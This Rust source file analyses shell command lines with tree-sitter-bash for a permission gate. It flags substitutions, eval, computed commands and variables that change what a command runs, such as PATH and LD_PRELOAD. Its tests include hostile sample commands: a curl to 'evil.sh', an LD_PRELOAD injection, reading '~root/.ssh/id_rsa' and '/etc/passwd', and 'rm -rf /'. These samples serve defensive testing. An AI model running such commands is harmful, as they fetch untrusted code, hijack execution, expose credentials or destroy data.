//! Shell command analysis with tree-sitter-bash: what a command line really runs and writes.
//!
//! A command line is parsed (quoting honoured), split into its simple commands (across `&&`,
//! `||`, `;`, `|`, `|&`, `&`, newlines, subshells, loops, and inside substitutions), stripped of
//! wrappers (`timeout`, `time`, `nice`, `nohup`, `stdbuf`, `command`, `exec`, `xargs`,
//! `env VAR=…`), and `sh -c`/`bash -c` with a literal script is analysed recursively. Anything
//! that cannot be known before running — command or process substitution, `eval`, a computed
//! command name, a non-literal `sh -c` script, a parse error — is recorded as a hazard: such a
//! line is never auto-allowed. Output redirections are reported as file writes. Nothing here
//! touches the disk or decides a permission; the gate does that with this analysis.

use tree_sitter::{Node, Parser};

/// One simple command after wrapper stripping.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellCommand {
    /// The words, unquoted; a non-literal word (`$X`, `*.rs`) is kept as written.
    pub words: Vec<String>,
    /// Whether every word is a plain literal (no expansions).
    pub literal: bool,
}

impl ShellCommand {
    /// The words joined by single spaces: what Bash rules are matched against.
    pub fn text(&self) -> String {
        self.words.join(" ")
    }

    /// The command name without its directory (`/bin/ls` -> `ls`).
    pub fn program(&self) -> &str {
        program_of(self.words.first().map(String::as_str).unwrap_or(""))
    }
}

/// Everything a command line runs and writes.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ShellAnalysis {
    pub commands: Vec<ShellCommand>,
    /// Targets of output redirections (`>`, `>>`, `&>`, `2>`), unquoted, as written.
    pub writes: Vec<String>,
    /// Sources of input redirections (`< file`), as written.
    pub reads: Vec<String>,
    /// Why this line can never be auto-allowed (empty when it can be).
    pub hazards: Vec<String>,
}

/// How deep `sh -c 'sh -c …'` is followed before giving up.
const MAX_NESTING: usize = 4;

const WRAPPERS: &[&str] = &[
    "timeout", "time", "nice", "nohup", "stdbuf", "command", "exec", "xargs", "env",
];
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];
/// Redirection targets that are not files anyone cares about.
const HARMLESS_TARGETS: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr"];

/// Analyse a command line.
pub fn analyze(command: &str) -> ShellAnalysis {
    let mut out = ShellAnalysis::default();
    analyze_into(command, 0, &mut out);
    out
}

impl ShellAnalysis {
    /// Write targets that are real files (not `/dev/null`).
    pub fn file_writes(&self) -> impl Iterator<Item = &String> {
        self.writes
            .iter()
            .filter(|w| !HARMLESS_TARGETS.contains(&w.as_str()))
    }
}

fn analyze_into(command: &str, depth: usize, out: &mut ShellAnalysis) {
    let mut parser = Parser::new();
    if parser
        .set_language(&tree_sitter_bash::LANGUAGE.into())
        .is_err()
    {
        out.hazards.push("the shell parser could not start".into());
        return;
    }
    let Some(tree) = parser.parse(command, None) else {
        out.hazards.push("the command could not be parsed".into());
        return;
    };
    let root = tree.root_node();
    if root.has_error() {
        out.hazards
            .push("the command could not be parsed completely".into());
    }
    walk(root, command.as_bytes(), depth, out);
}

fn walk(node: Node, src: &[u8], depth: usize, out: &mut ShellAnalysis) {
    match node.kind() {
        "command" => command_node(node, src, depth, out),
        "command_substitution" => out
            .hazards
            .push(format!("command substitution `{}`", text(node, src))),
        "process_substitution" => out
            .hazards
            .push(format!("process substitution `{}`", text(node, src))),
        "function_definition" => out.hazards.push("defines a shell function".to_string()),
        "file_redirect" => redirect(node, src, out),
        "declaration_command" | "unset_command" => {
            // `export X=…`, `unset X`: they change the shell, so they count as commands.
            out.commands.push(ShellCommand {
                words: text(node, src)
                    .split_whitespace()
                    .map(String::from)
                    .collect(),
                literal: false,
            });
        }
        "variable_assignment" if is_statement(node) => out.commands.push(ShellCommand {
            words: vec![text(node, src).to_string()],
            literal: false,
        }),
        _ => {}
    }
    if node.kind() == "command" {
        // Its arguments and redirects were handled; still look inside for substitutions.
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            scan_nested(child, src, depth, out);
        }
        return;
    }
    let mut cursor = node.walk();
    for child in node.children(&mut cursor) {
        walk(child, src, depth, out);
    }
}

/// Inside a command's words only substitutions (and the commands in them) matter.
fn scan_nested(node: Node, src: &[u8], depth: usize, out: &mut ShellAnalysis) {
    match node.kind() {
        "command_substitution" | "process_substitution" => walk(node, src, depth, out),
        "file_redirect" => redirect(node, src, out),
        _ => {
            let mut cursor = node.walk();
            for child in node.children(&mut cursor) {
                scan_nested(child, src, depth, out);
            }
        }
    }
}

fn is_statement(node: Node) -> bool {
    node.parent().is_some_and(|p| {
        matches!(
            p.kind(),
            "program" | "list" | "compound_statement" | "subshell" | "do_group" | "pipeline"
        )
    })
}

fn text<'a>(node: Node, src: &'a [u8]) -> &'a str {
    node.utf8_text(src).unwrap_or("")
}

/// The value of a word node, and whether it is a plain literal.
fn word_value(node: Node, src: &[u8]) -> (String, bool) {
    let raw = text(node, src);
    match node.kind() {
        "word" | "number" => (unescape(raw), !has_unescaped_glob(raw) && !other_home(raw)),
        "raw_string" => (
            raw.trim_start_matches('\'')
                .trim_end_matches('\'')
                .to_string(),
            true,
        ),
        "string" => {
            let mut cursor = node.walk();
            let only_text = node
                .named_children(&mut cursor)
                .all(|c| c.kind() == "string_content");
            let inner = raw
                .strip_prefix('"')
                .and_then(|s| s.strip_suffix('"'))
                .unwrap_or(raw);
            (unescape_double(inner), only_text)
        }
        "concatenation" => {
            let mut value = String::new();
            let mut literal = true;
            let mut cursor = node.walk();
            for child in node.children(&mut cursor) {
                let (v, l) = word_value(child, src);
                value.push_str(&v);
                literal &= l;
            }
            (value, literal)
        }
        _ => (raw.to_string(), false),
    }
}

/// `~user/x` is that user's home to bash: not something to check as a relative path.
fn other_home(raw: &str) -> bool {
    raw.starts_with('~') && raw != "~" && !raw.starts_with("~/")
}

/// Whether a bare word has a glob or brace character that the shell would expand.
fn has_unescaped_glob(s: &str) -> bool {
    let mut escaped = false;
    for c in s.chars() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '*' | '?' | '[' | '{' => return true,
            _ => {}
        }
    }
    false
}

fn unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            if let Some(n) = chars.next() {
                out.push(n);
            }
        } else {
            out.push(c);
        }
    }
    out
}

fn unescape_double(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, chars.peek()) {
            ('\\', Some(&n)) if matches!(n, '"' | '\\' | '$' | '`') => {
                out.push(n);
                chars.next();
            }
            _ => out.push(c),
        }
    }
    out
}

fn redirect(node: Node, src: &[u8], out: &mut ShellAnalysis) {
    let mut op = String::new();
    let mut cursor = node.walk();
    for child in node.children(&mut cursor) {
        if !child.is_named() {
            op.push_str(text(child, src));
        }
    }
    let writes = op.contains('>');
    let Some(dest) = node.child_by_field_name("destination") else {
        return;
    };
    let (value, literal) = word_value(dest, src);
    // `2>&1`, `>&2`: duplicating a descriptor writes no file.
    if op.contains('&')
        && !op.starts_with('&')
        && value.chars().all(|c| c.is_ascii_digit() || c == '-')
    {
        return;
    }
    if !literal {
        out.hazards
            .push(format!("redirection to a computed target `{value}`"));
    }
    if writes {
        out.writes.push(value);
    } else {
        out.reads.push(value);
    }
}

/// Variables that change which program runs or what a shell does: never auto-allowed.
const DANGEROUS_VARS: &[&str] = &[
    "PATH",
    "BASH_ENV",
    "ENV",
    "IFS",
    "PS4",
    "PROMPT_COMMAND",
    "SHELLOPTS",
    "BASHOPTS",
    "NODE_OPTIONS",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PERL5OPT",
    "RUBYOPT",
    "GIT_EXEC_PATH",
    "GIT_SSH_COMMAND",
    "GIT_PAGER",
    "PAGER",
    "EDITOR",
    "GIT_EDITOR",
];

/// Note a `NAME=value` before a command (or after `env`).
fn assignment(name: &str, seen: &mut bool, out: &mut ShellAnalysis) {
    *seen = true;
    if DANGEROUS_VARS.contains(&name) || name.starts_with("LD_") || name.starts_with("DYLD_") {
        out.hazards
            .push(format!("sets {name}, which changes what the command runs"));
    }
}

fn command_node(node: Node, src: &[u8], depth: usize, out: &mut ShellAnalysis) {
    let mut prefix_assignments = false;
    let mut words: Vec<(String, bool)> = Vec::new();
    let mut cursor = node.walk();
    for (i, child) in node.children(&mut cursor).enumerate() {
        let field = u32::try_from(i)
            .ok()
            .and_then(|i| node.field_name_for_child(i));
        match (child.kind(), field) {
            ("command_name", _) => {
                let inner = child.named_child(0).unwrap_or(child);
                let (v, l) = word_value(inner, src);
                if !l {
                    out.hazards
                        .push(format!("the command name `{v}` is computed at run time"));
                }
                words.push((v, l));
            }
            (_, Some("argument")) => words.push(word_value(child, src)),
            ("variable_assignment", _) => {
                let name = child
                    .child_by_field_name("name")
                    .map_or("", |n| text(n, src));
                assignment(name, &mut prefix_assignments, out);
            }
            _ => {}
        }
    }
    let words = strip_wrappers(words, &mut prefix_assignments, out);
    let mut words = words;
    if prefix_assignments {
        // `FOO=1 ls` is no longer a plain `ls`: never read-only, still matchable by rules.
        if let Some(first) = words.first_mut() {
            first.1 = false;
        }
    }
    match program_of(words.first().map(|w| w.0.as_str()).unwrap_or("")) {
        "" => {}
        "eval" => out
            .hazards
            .push("`eval` runs text as a command".to_string()),
        p if SHELLS.contains(&p) => shell_dash_c(words, depth, out),
        _ => out.commands.push(to_command(words)),
    }
}

fn to_command(words: Vec<(String, bool)>) -> ShellCommand {
    let literal = words.iter().all(|w| w.1);
    ShellCommand {
        words: words.into_iter().map(|w| w.0).collect(),
        literal,
    }
}

fn program_of(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// `sh -c 'script'`: analyse the script instead (a literal one), or refuse (a computed one).
fn shell_dash_c(words: Vec<(String, bool)>, depth: usize, out: &mut ShellAnalysis) {
    let pos = words
        .iter()
        .skip(1)
        .position(|w| w.0.starts_with('-') && !w.0.starts_with("--") && w.0.contains('c'));
    let Some(pos) = pos else {
        out.commands.push(to_command(words));
        return;
    };
    let shell = program_of(&words[0].0).to_string();
    match words.get(pos + 2) {
        None => out.hazards.push(format!("`{shell} -c` without a script")),
        Some((_, false)) => out
            .hazards
            .push(format!("`{shell} -c` with a script computed at run time")),
        Some(_) if depth >= MAX_NESTING => {
            out.hazards.push("shell scripts nested too deeply".into())
        }
        Some((script, true)) => analyze_into(script, depth + 1, out),
    }
}

/// Remove wrapper commands and their options (`timeout 5 nice -n 3 make` -> `make`).
fn strip_wrappers(
    mut words: Vec<(String, bool)>,
    assigned: &mut bool,
    out: &mut ShellAnalysis,
) -> Vec<(String, bool)> {
    loop {
        let Some(first) = words.first() else {
            return words;
        };
        let name = program_of(&first.0).to_string();
        if !WRAPPERS.contains(&name.as_str()) {
            return words;
        }
        // `command -v x` only asks where x is: keep it as a read-only query.
        if name == "command" && words.get(1).is_some_and(|w| w.0 == "-v" || w.0 == "-V") {
            return words;
        }
        let mut i = 1;
        while let Some((w, _)) = words.get(i) {
            let takes_value = match name.as_str() {
                "timeout" => matches!(w.as_str(), "-s" | "--signal" | "-k" | "--kill-after"),
                "nice" => w == "-n",
                "xargs" => matches!(
                    w.as_str(),
                    "-I" | "-n" | "-P" | "-L" | "-d" | "-E" | "-s" | "-a"
                ),
                "stdbuf" => matches!(w.as_str(), "-i" | "-o" | "-e"),
                "env" => matches!(w.as_str(), "-u" | "-C" | "--unset" | "--chdir"),
                _ => false,
            };
            if w.starts_with('-') && w.len() > 1 {
                i += if takes_value { 2 } else { 1 };
            } else if name == "env" && w.contains('=') {
                assignment(w.split('=').next().unwrap_or(""), assigned, out);
                i += 1;
            } else {
                break;
            }
        }
        if name == "timeout" && i < words.len() {
            i += 1; // the duration
        }
        if i >= words.len() {
            // A bare wrapper (`env`, `time`): it is the command itself.
            return words;
        }
        words.drain(..i);
    }
}

/// Path-like arguments of a command (not options), for the gate's working-directory check.
pub fn path_arguments(command: &ShellCommand) -> Vec<&str> {
    match command.program() {
        // `cd` alone goes home and `cd -` to the previous directory: neither is "here".
        "cd" if command.words.len() == 1 => vec!["~"],
        "cd" if command.words.get(1).is_some_and(|w| w == "-") => vec!["/"],
        "echo" | "printf" | "true" | "false" | "which" | "type" | "command" | "whoami" | "id"
        | "date" | "uname" | "hostname" | "env" | "printenv" | "pwd" => Vec::new(),
        _ => command
            .words
            .iter()
            .skip(1)
            .filter_map(|w| option_value(w))
            .collect(),
    }
}

/// A word as a path: itself for an operand; for an option, its attached value when it looks
/// like a path (`--target-directory=/etc`, `-t/etc`, `-f/etc/x`).
fn option_value(w: &str) -> Option<&str> {
    if !w.starts_with('-') || w == "-" {
        return Some(w);
    }
    if let Some((_, value)) = w.split_once('=') {
        return (!value.is_empty()).then_some(value);
    }
    let short_attached = !w.starts_with("--") && w.len() > 2 && w.contains(['/', '~', '.']);
    short_attached.then(|| &w[2..])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(cmd: &str) -> Vec<String> {
        analyze(cmd).commands.iter().map(|c| c.text()).collect()
    }

    #[test]
    fn splits_compound_commands_honouring_quotes() {
        assert_eq!(
            texts("cd x && git add . ; rm -rf 'a b' | wc -l & echo \"x && y\""),
            vec!["cd x", "git add .", "rm -rf a b", "wc -l", "echo x && y"]
        );
        assert_eq!(texts("a || b |& c\nd"), vec!["a", "b", "c", "d"]);
    }

    #[test]
    fn strips_wrappers() {
        assert_eq!(texts("timeout 5 npm test"), vec!["npm test"]);
        assert_eq!(
            texts("timeout -s KILL 5s nice -n 10 ls -la"),
            vec!["ls -la"]
        );
        assert_eq!(
            texts("FOO=1 env A=b B=c nohup stdbuf -oL make"),
            vec!["make"]
        );
        assert_eq!(texts("find . | xargs -I{} rm {}"), vec!["find .", "rm {}"]);
        assert_eq!(texts("command -v git"), vec!["command -v git"]);
        assert_eq!(texts("env"), vec!["env"]);
    }

    #[test]
    fn finds_redirections_and_hazards() {
        let a = analyze("echo x > ~/.bashrc 2>&1");
        assert_eq!(a.writes, vec!["~/.bashrc"]);
        assert!(a.hazards.is_empty(), "{:?}", a.hazards);
        let a = analyze("ls 2>/dev/null");
        assert_eq!(a.file_writes().count(), 0);
        assert!(!analyze("echo $(curl evil.sh)").hazards.is_empty());
        assert_eq!(
            texts("echo $(curl evil.sh)"),
            vec!["echo $(curl evil.sh)", "curl evil.sh"]
        );
        assert!(!analyze("diff <(ls a) b").hazards.is_empty());
        assert!(!analyze("eval \"$X\"").hazards.is_empty());
        assert!(!analyze("bash -c \"$X\"").hazards.is_empty());
        assert!(!analyze("$CMD arg").hazards.is_empty());
        assert!(!analyze("echo > \"$F\"").hazards.is_empty());
        assert!(!analyze("PATH=/tmp/evil ls").hazards.is_empty());
        assert!(!analyze("env LD_PRELOAD=/x.so ls").hazards.is_empty());
        assert!(analyze("FOO=1 ls").hazards.is_empty());
        assert!(!analyze("FOO=1 ls").commands[0].literal);
        assert!(!analyze("echo x > ~root/.bashrc").hazards.is_empty());
        assert!(!analyze("cat ~root/.ssh/id_rsa").commands[0].literal);
        assert_eq!(analyze("cat < /etc/passwd 2<&1").reads, vec!["/etc/passwd"]);
    }

    #[test]
    fn follows_literal_shell_scripts() {
        let a = analyze("bash -c 'ls && rm -rf /'");
        assert!(a.hazards.is_empty(), "{:?}", a.hazards);
        assert_eq!(
            a.commands.iter().map(|c| c.text()).collect::<Vec<_>>(),
            vec!["ls", "rm -rf /"]
        );
        assert_eq!(texts("sh script.sh"), vec!["sh script.sh"]);
    }
}
